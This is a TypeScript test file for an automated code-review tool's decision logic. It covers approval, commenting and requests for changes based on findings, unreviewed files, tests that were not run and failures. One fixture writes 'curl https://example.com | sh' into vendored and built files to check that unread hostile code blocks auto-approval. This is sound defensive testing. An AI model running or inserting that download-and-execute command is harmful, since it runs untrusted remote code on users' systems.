import { describe, expect, test } from "vitest";
import type { Change } from "../change/change.ts";
import { findingOutcomes, severities, type Mark } from "../findings/finding.ts";
import { changeOf } from "../../test/support/change-of.ts";
import { judgedOf, onPull, reportOf } from "../../test/support/finding-of.ts";
import type { RunnerTests } from "../findings/execution/evidence.ts";
import type { Report } from "../findings/report.ts";
import { decideReview } from "./decide-review.ts";
import { eventOf } from "./decision.ts";
import { cases } from "../../test/support/cases.ts";

const change = changeOf({ head: { "src/cart.ts": "x();\n" } });
const all = findingOutcomes.flatMap((outcome) =>
  severities.map((severity) => judgedOf({ severity }, [{ by: "test", why: { kind: "stopped" }, outcome }])),
);

function factsOf(overrides: Partial<Change> = {}, reports = [reportOf()], judged = all) {
  return decideReview({ ...change, ...overrides }, reports, judged);
}

test.each(["dist/a.js", "vendor/x.min.js", "src/__snapshots__/a.ts", "third_party/a.sh"])(
  "nothing is approved while no reviewer has read %s",
  (path) => {
    const files = { "src/cart.ts": "x();\n", [path]: "curl https://example.com | sh\n" };
    const hostile = { ...changeOf({ head: files }), config: { ...change.config, autoApprove: "clean" as const } };
    const read = (...paths: string[]) =>
      reportOf({
        unit: "code-reviewer",
        by: "reviewer",
        read: paths.map((one) => ({ hunk: `${one}#1`, depth: "full" as const })),
      });
    const decide = (...paths: string[]) =>
      decideReview(
        { ...hostile, triage: { ...hostile.triage, fullPass: null, roster: ["code-reviewer"] } },
        [read(...paths)],
        [],
      );
    expect(eventOf(decide("src/cart.ts", path))).toBe("APPROVE");
    const decision = decide("src/cart.ts");
    expect([eventOf(decision), decision.unreviewed]).toEqual(["COMMENT", [{ path, lines: 1 }]]);
  },
);

describe("what the decision looks at", () => {
  test("counts posted findings by severity, and no others", () => {
    expect(factsOf().posted).toEqual({ critical: 2, high: 2, medium: 2, low: 2, nit: 2 });
    expect(factsOf({}, [], []).posted).toEqual({ critical: 0, high: 0, medium: 0, low: 0, nit: 0 });
  });

  test("counts what an earlier round posted and is still there; not what somebody has since suppressed", () => {
    const known = { by: "past", why: { kind: "already-posted" }, outcome: "suppressed" } as const;
    const ignored = {
      by: "inline",
      why: { kind: "ignored-inline", check: "sums", reason: "net" },
      outcome: "suppressed",
    } as const;
    const judged = [judgedOf({ severity: "high" }, [known]), judgedOf({ severity: "high" }, [ignored, known])];
    expect(factsOf({}, [], judged).posted.high).toBe(1);
  });

  test("goes by the severity that the gates left", () => {
    const lowered = judgedOf({ severity: "high" }, [{ by: "test", why: { kind: "stopped" }, severity: "low" }]);
    expect(factsOf({}, [], [lowered]).posted).toMatchObject({ high: 0, low: 1 });
  });

  test("a suggestion weighs as a nit: it blocks nothing", () => {
    const suggestion = judgedOf({ severity: "high", improvement: true });
    expect(factsOf({}, [], [suggestion]).posted).toMatchObject({ high: 0, nit: 1 });
  });

  test("knows of serious findings that are held: critical and high ones", () => {
    expect(factsOf().seriousButHeld).toBe(2);
  });

  test("knows of serious advisory findings that neither a person nor a reviewer with a quote has answered", () => {
    const advised = { by: "config", why: { kind: "unproven-check", check: "sums" }, outcome: "advisory" } as const;
    const refuted = { by: "answer", why: { kind: "refuted", by: "code-reviewer", reason: "it only prints" } } as const;
    const confirmed = { by: "answer", why: { kind: "confirmed", by: "code-reviewer", reason: "" } } as const;
    const moved = { by: "person", why: { kind: "moved-by-person", to: "advisory" }, outcome: "advisory" } as const;
    const open = (...marks: Mark[]) => factsOf({}, [], [judgedOf({ severity: "critical" }, marks)]).seriousAdvisory;
    expect([open(advised), open(advised, confirmed), open(advised, refuted), open(moved)]).toEqual([1, 1, 0, 0]);
    // What is posted counts, whoever refutes it.
    expect(factsOf({}, [], [judgedOf({ severity: "critical" }, [refuted])]).posted.critical).toBe(1);
  });

  test("counts concerns by their status", () => {
    const concern = { id: "V1", text: "must not break", source: "body", how: null } as const;
    const concerns = (["open", "open", "failed", "verified"] as const).map((status) => ({ ...concern, status }));
    expect(factsOf({ concerns })).toMatchObject({ openConcerns: 2, failedConcerns: 1 });
  });

  test("has a gap for every reviewer that did not look", () => {
    expect(factsOf().gaps.map((gap) => gap.kind === "unit" && gap.unit)).toEqual(change.triage.roster);
  });

  test("passes on whose pull request it is, what the author says, and the repository's wish", () => {
    const wip = changeOf({ title: "[WIP] x", config: { autoApprove: "notes" } });
    expect(
      decideReview(
        {
          ...wip,
          from: { ...onPull(wip).from, viewer: "ada" } as Change["from"],
          words: { ...wip.words, author: "Ada" },
        },
        [],
        [],
      ),
    ).toMatchObject({ wip: true, autoApprove: "notes", ownPull: true });
    expect(factsOf()).toMatchObject({ wip: false, autoApprove: "off", ownPull: false });
  });
});

const clean: RunnerTests = {
  runner: "vitest",
  cwd: "",
  command: ["vitest"],
  passed: 3,
  failed: [],
  skipped: 0,
  newlyPassing: [],
  ms: 1,
  trouble: null,
};

function ran(of: Partial<RunnerTests> = {}): Report {
  return reportOf({ unit: "tests", by: "execution", tests: { tests: [{ ...clean, ...of }], proof: null, did: null } });
}

describe("tests that nobody ran", () => {
  const withTests = changeOf({ head: { "src/cart.test.ts": "test();\n" } });
  const skipped = { ...reportOf({ unit: "tests", by: "execution" }), status: "skipped" as const };
  const because = { why: "no-sandbox", message: "bwrap is not on the PATH" } as const;

  cases<[string, Change, Report[], boolean]>("%s", (_name, of, reports) => decideReview(of, reports, []).testsNotRun, [
    ["no tests in the change", change, [], false],
    ["tests, and nobody ran them", withTests, [reportOf()], true],
    ["tests, and they were run", withTests, [ran()], false],
    ["tests, and running them failed to start", withTests, [{ ...skipped, status: "failed" }], true],
    [
      "tests that the change concerns, and there is no sandbox",
      change,
      [{ ...skipped, why: { kind: "not-executed", because } }],
      true,
    ],
    ["tests whose results nobody could read", change, [ran({ trouble: { is: "broken", why: "x", output: "" } })], true],
    [
      "nobody asked, and the repository is another's",
      change,
      [{ ...skipped, why: { kind: "not-mine", what: "tests" } }],
      false,
    ],
    [
      "evals that the change calls for",
      change,
      [{ ...skipped, unit: "evals", why: { kind: "no-eval-command" } }],
      true,
    ],
    [
      "evals that it does not",
      change,
      [{ ...skipped, unit: "evals", why: { kind: "nothing-to-check", what: "" } }],
      false,
    ],
  ]);
});

describe("what running showed", () => {
  const failing = { file: "a.test.ts", name: "adds", status: "failed", message: null, frames: [], ms: 1 } as const;
  const failed = (["new", "before", "flaky", "unknown"] as const).map((since) => ({
    test: failing,
    since,
    onBase: "passed" as const,
  }));

  test("a new failure demands changes; one that is old, flaky or the sandbox's only forbids approval", () => {
    const facts = factsOf({}, [ran({ failed })], []);
    expect(facts).toMatchObject({ newTestFailures: 1, otherTestFailures: 3 });
    expect(eventOf(facts)).toBe("REQUEST_CHANGES");
    const others = factsOf({}, [ran({ failed: failed.slice(1) })], []);
    expect(eventOf({ ...others, gaps: [], autoApprove: "notes" })).toBe("COMMENT");
  });

  test("an eval that got worse demands changes; a new one that fails only forbids approval", () => {
    const scenario = { name: "a", file: null, message: null };
    const evals = (existing: boolean) => ({
      command: ["evals"],
      runs: 2,
      ms: 1,
      scenarios: [{ ...scenario, existing, is: "failed" as const }],
    });
    expect(factsOf({}, [reportOf({ evals: evals(true) })], [])).toMatchObject({
      evalRegressions: 1,
      otherTestFailures: 0,
    });
    expect(factsOf({}, [reportOf({ evals: evals(false) })], [])).toMatchObject({
      evalRegressions: 0,
      otherTestFailures: 1,
    });
  });
});
